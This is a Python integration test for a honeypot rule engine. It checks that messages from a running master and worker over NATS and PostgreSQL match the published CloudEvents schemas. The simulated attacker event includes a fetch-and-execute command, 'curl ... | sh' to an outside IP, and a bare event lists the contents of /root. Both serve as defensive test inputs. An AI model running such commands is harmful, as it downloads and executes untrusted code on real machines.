"""Real messages from a running master and worker validate against the published schemas.

The real master (in-process) runs on the whole starter rule pack against private NATS and
PostgreSQL, with one real worker. A core subscription on `ttp.>` records every message the
way a third party sees it. The test makes every kind of message happen for real:

- `ttp.rule.reloaded.*` (definitions at startup, a change, a tombstone for a deleted file);
- `ttp.rule.state.*`: an operator state whose expiry passed while the master was down (the
  row is written to PostgreSQL between two master runs), which the master reverts on start
  and publishes with `cause: expired`;
- `ttp.ruleset.revision`, `ttp.rule.rejected.*` (a broken rule file);
- `ttp.event.*` (an enveloped event this test publishes, as a honeypot would; bare events
  are not CloudEvents and are not checked), `ttp.tagged.*`, `ttp.deadletter.*` (a malformed
  event), `ttp.worker.status.*`.

Each captured message is validated against `docs/schemas/<type>.json` chosen by the subject
(not by the message's own `type`), and must carry that type and its `dataschema` URI.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
from jsonschema import Draft202012Validator
from nats.aio.msg import Msg

from harness.master import (
    STARTER_RULES,
    install,
    master_settings,
    nats_client,
    running_master,
    with_version,
)
from harness.worker import running_worker
from ttp_core.contract import subjects
from ttp_core.contract.payloads import (
    DATA_MODELS,
    HoneypotEvent,
    encode,
    envelope,
    schema_id,
)

REPO = Path(__file__).resolve().parents[2]
SCHEMAS = REPO / "docs" / "schemas"
TIMEOUT_S = 30.0

# Subject prefix -> the CloudEvents type the contract says it carries.
TYPE_BY_SUBJECT: dict[str, str] = {
    subjects.RULE_RELOADED_PREFIX: "ttp.rule.reloaded.v1",
    subjects.RULE_STATE_PREFIX: "ttp.rule.state.v1",
    subjects.RULESET_REVISION: "ttp.ruleset.revision.v1",
    subjects.RULE_REJECTED_PREFIX: "ttp.rule.rejected.v1",
    subjects.EVENT_PREFIX: "ttp.event.v1",
    subjects.TAGGED_PREFIX: "ttp.tagged.v1",
    subjects.DEADLETTER_PREFIX: "ttp.deadletter.v1",
    subjects.WORKER_STATUS_PREFIX: "ttp.worker.status.v1",
}


def contract_type(subject: str) -> str | None:
    if subject == subjects.RULESET_REVISION:
        return TYPE_BY_SUBJECT[subject]
    return TYPE_BY_SUBJECT.get(subject.rsplit(".", 1)[0])


@dataclass(frozen=True)
class Captured:
    subject: str
    raw: bytes
    headers: dict[str, str]

    @property
    def body(self) -> Any:
        """The JSON document, None if the message is not JSON (a malformed input event)."""
        try:
            return json.loads(self.raw)
        except ValueError:
            return None


class Recorder:
    def __init__(self) -> None:
        self.messages: list[Captured] = []

    async def on_message(self, msg: Msg) -> None:
        self.messages.append(Captured(msg.subject, msg.data, dict(msg.headers or {})))

    def having(self, predicate: Callable[[Captured], bool]) -> list[Captured]:
        return [m for m in self.messages if predicate(m)]

    async def wait(self, predicate: Callable[[Captured], bool], what: str) -> Captured:
        deadline = asyncio.get_running_loop().time() + TIMEOUT_S
        while True:
            found = self.having(predicate)
            if found:
                return found[-1]
            if asyncio.get_running_loop().time() > deadline:
                seen = sorted({m.subject for m in self.messages})
                raise AssertionError(f"timed out waiting for {what}; subjects seen: {seen}")
            await asyncio.sleep(0.05)


def data_of(m: Captured) -> dict[str, Any]:
    body = m.body
    return body.get("data", {}) if isinstance(body, dict) else {}


def libpq(url: str) -> str:
    return url.replace("postgresql+psycopg://", "postgresql://", 1)


async def test_real_messages_of_every_type_validate_against_the_published_schemas(
    private_nats: Any, database_url: str, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    placed = install(rules, sorted(p.stem for p in STARTER_RULES.rglob("*.yaml")))
    settings = master_settings(private_nats.url, database_url, rules)
    recorder = Recorder()

    async with nats_client(private_nats.url) as nc:
        await nc.subscribe("ttp.>", cb=recorder.on_message)
        js = nc.jetstream()

        # First run: the schema exists and the rules are in PostgreSQL.
        async with running_master(settings):
            await recorder.wait(
                lambda m: m.subject == subjects.RULESET_REVISION, "the first ruleset summary"
            )
        # While the master is down, an operator state expires.
        async with await psycopg.AsyncConnection.connect(libpq(database_url)) as conn:
            await conn.execute(
                "INSERT INTO ttp_rule_state (rule_id, state, expires_at, reason, set_by, set_at,"
                " revision) VALUES (%s, 'disabled', %s, 'contract test', 'tester', %s, 1)",
                ("R0010", datetime.now(UTC) - timedelta(hours=1), datetime.now(UTC)),
            )
            await conn.commit()

        async with running_master(settings), running_worker(private_nats.url, "cw1"):
            state = await recorder.wait(
                lambda m: m.subject == subjects.rule_state("R0010"), "the expiry revert"
            )
            assert data_of(state)["cause"] == "expired"

            # A real change, a delete (tombstone) and a broken file (rejection).
            placed["R0014"].write_text(with_version(placed["R0014"].read_text(), 9))
            placed["R0078"].unlink()
            (rules / "R9999.yaml").write_text("rule_id: R9999\nrule_version: 0\nname: [\n")
            await recorder.wait(
                lambda m: (
                    m.subject == subjects.rule_reloaded("R0014")
                    and data_of(m).get("rule_version") == 9
                ),
                "R0014 v9",
            )
            await recorder.wait(
                lambda m: (
                    m.subject == subjects.rule_reloaded("R0078")
                    and data_of(m).get("deleted") is True
                ),
                "the R0078 tombstone",
            )
            await recorder.wait(
                lambda m: m.subject == subjects.rule_rejected("R9999"), "the rejection"
            )

            # Events: enveloped and bare, one that fires, one malformed.
            event = HoneypotEvent(
                source_kind="command",
                source_id="cmd_contract_1",
                attacker_uuid="a-1",
                session_id="s-1",
                payload={"command_text": "curl -fsSL http://203.0.113.9/x.sh | sh"},
            )
            enveloped = envelope(event, source="honeypot/contract-test", subject="cmd_contract_1")
            await js.publish(subjects.event("command"), encode(enveloped))
            bare = {
                "source_kind": "command",
                "source_id": "cmd_42",
                "payload": {"command_text": "ls -la /root"},
            }
            await js.publish(subjects.event("command"), json.dumps(bare).encode())
            await js.publish(subjects.event("command"), b"{not json")
            await recorder.wait(
                lambda m: (
                    m.subject == subjects.tagged("command")
                    and data_of(m).get("source_id") == "cmd_contract_1"
                ),
                "the tags of the enveloped event",
            )
            await recorder.wait(
                lambda m: (
                    m.subject == subjects.tagged("command")
                    and data_of(m).get("source_id") == "cmd_42"
                ),
                "the tags of the bare event",
            )
            await recorder.wait(
                lambda m: m.subject.startswith(subjects.DEADLETTER_PREFIX + "."), "a dead letter"
            )
            await recorder.wait(
                lambda m: (
                    m.subject == subjects.worker_status("cw1")
                    and data_of(m).get("events_processed", 0) >= 3
                ),
                "a status after the events",
            )

    validators = {
        m.event_type: Draft202012Validator(
            json.loads((SCHEMAS / f"{m.event_type}.json").read_text(encoding="utf-8"))
        )
        for m in DATA_MODELS
    }
    checked: dict[str, int] = {}
    for message in recorder.messages:
        event_type = contract_type(message.subject)
        if event_type is None:  # e.g. the control service, not part of the public contract
            continue
        body = message.body
        if event_type == "ttp.event.v1" and not (isinstance(body, dict) and "specversion" in body):
            continue  # this test's bare and malformed inputs: not CloudEvents
        errors = [
            f"{list(e.absolute_path)}: {e.message}"
            for e in validators[event_type].iter_errors(body)
        ]
        assert not errors, (message.subject, errors, body)
        assert body["type"] == event_type
        assert body["dataschema"] == schema_id(event_type)
        datetime.fromisoformat(body["time"])  # RFC 3339 date-time, as the schema says
        assert "traceparent" not in body and "tracestate" not in body
        checked[event_type] = checked.get(event_type, 0) + 1

    assert set(checked) == {m.event_type for m in DATA_MODELS}, checked
    reloaded = [data_of(m) for m in recorder.messages if m.subject.startswith("ttp.rule.reloaded.")]
    assert any(d["deleted"] for d in reloaded) and any(not d["deleted"] for d in reloaded)
    # JetStream publishes of the rule plane carry Nats-Msg-Id equal to the CloudEvents id.
    for m in recorder.having(lambda m: m.subject.startswith("ttp.rule.reloaded.")):
        assert m.headers.get("Nats-Msg-Id") == m.body["id"]
